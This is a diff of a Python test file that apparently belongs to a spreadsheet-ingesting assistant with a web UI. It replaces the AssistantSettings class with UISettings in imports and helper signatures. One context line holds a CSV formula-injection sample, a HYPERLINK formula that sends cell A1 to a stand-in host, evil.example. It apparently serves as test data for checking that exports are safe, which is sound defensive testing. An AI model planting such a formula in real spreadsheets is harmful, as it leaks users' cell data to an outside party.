@@ -20,7 +20,6 @@ import pytest
 from pydantic import SecretStr
 
 from assistant.answer import Answer, Fact
-from assistant.settings import AssistantSettings
 from ingest.index import build, list_sheets
 from tests.test_app import _free_port, _sheet_json
 from ui import serve
@@ -29,6 +28,7 @@ from ui.engine import Engine
 from ui.format import write_facts_csv
 from ui.launch import launch
 from ui.layout import build_app
+from ui.settings import UISettings
 from ui.upload import make_add
 
 ROOT = Path(__file__).resolve().parents[1]
@@ -39,10 +39,10 @@ pytestmark = [
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"開く")'
 
 
-def _settings(home: Path, **app: object) -> AssistantSettings:
+def _settings(home: Path, **app: object) -> UISettings:
     from tests.index_support import model_cache
 
-    settings = AssistantSettings(home=home, models={"cache_dir": model_cache()})
+    settings = UISettings(home=home, models={"cache_dir": model_cache()})
     return settings.model_copy(update={"app": settings.app.model_copy(update=app)}) if app else settings
 
 
@@ -213,7 +213,7 @@ def test_login_throttle_policy_is_per_client() -> None:
 # ----------------------------------------------------------------------------- a damaged store
 
 
-def _damaged_store(tmp_path: Path) -> AssistantSettings:
+def _damaged_store(tmp_path: Path) -> UISettings:
     from ingest.vectors import E5Embedding
     from tests.index_support import real_embeddings
 
